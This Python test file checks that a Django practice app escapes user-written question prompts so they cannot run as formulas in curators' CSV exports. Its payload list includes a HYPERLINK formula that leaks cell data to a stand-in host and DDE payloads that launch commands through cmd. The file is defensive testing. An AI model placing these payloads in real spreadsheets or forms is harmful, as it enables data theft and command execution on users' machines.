"""Spreadsheet formula injection ("CSV injection"): text a user wrote must never reach a
curator's spreadsheet as a formula, and the escaping must not change what comes back in."""

import csv
import io

import pytest
from django.urls import reverse

from practice.models import Attempt
from questions import formats
from questions.models import Question
from questions.services import QUESTION_FIELDS

pytestmark = pytest.mark.django_db

# What spreadsheets run: formulas, DDE, and the characters that smuggle one in.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your score")',
    "=cmd|' /C calc'!A0 and then a question?",
    "+1+cmd|' /C calc'!A0 is this a question?",
    "-2+3+cmd|' /C calc'!A0 is this a question?",
    "@SUM(1+9)*cmd|' /C calc'!A0 question?",
    "\t=1+1 a tab first, then a formula?",
    "\r=1+1 a carriage return first?",
    "'=1+1 already behind an apostrophe?",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", ["'", "''x", "'plain", "plain", "", "a = b", *FORMULAS])
def test_escaping_round_trips_exactly(value):
    safe = formats.spreadsheet_safe(value)
    assert not runs_as_formula(safe)
    assert formats.spreadsheet_unescape(safe) == value


def test_a_suggested_question_reaches_the_curators_csv_as_text(world, monkeypatch):
    """The whole path: a user suggests, a curator exports CSV, edits nothing, imports it back."""
    monkeypatch.setattr("questions.services.SUGGESTIONS_PER_DAY", len(FORMULAS))
    owner = world.client("owner")
    for n, prompt in enumerate(FORMULAS):
        response = owner.post(
            reverse("questions:suggest"), {"prompt": prompt, "category": "technical"}
        )
        assert response.status_code == 302, n
    suggested = Question.objects.filter(suggested_by=world.users["owner"])
    assert suggested.count() == len(FORMULAS)

    curator = world.client("curator")
    export = curator.get(reverse("admin:questions_question_export"), {"format": "csv"})
    text = export.content.decode()
    assert not [c for c in cells(text) if runs_as_formula(c)]
    prompts = set(suggested.values_list("prompt", flat=True))
    assert {"'" + p for p in prompts} <= set(cells(text))

    # Importing the file unchanged gives back exactly the prompts the users wrote.
    items = formats.loads(export.content, "csv")
    assert {
        i["prompt"] for i in items if i["key"] in set(suggested.values_list("key", flat=True))
    } == prompts
    assert all(set(i) == set(QUESTION_FIELDS) for i in items)


def test_the_users_own_csv_export_never_holds_a_formula(world):
    Question.objects.filter(pk=world.question.pk).update(prompt=FORMULAS[0])
    Attempt.objects.filter(pk=world.attempt.pk).update(rating="good")
    response = world.client("owner").get(reverse("account_data_export", args=["csv"]))
    text = response.content.decode()
    assert "'" + FORMULAS[0] in cells(text)
    assert not [c for c in cells(text) if runs_as_formula(c)]
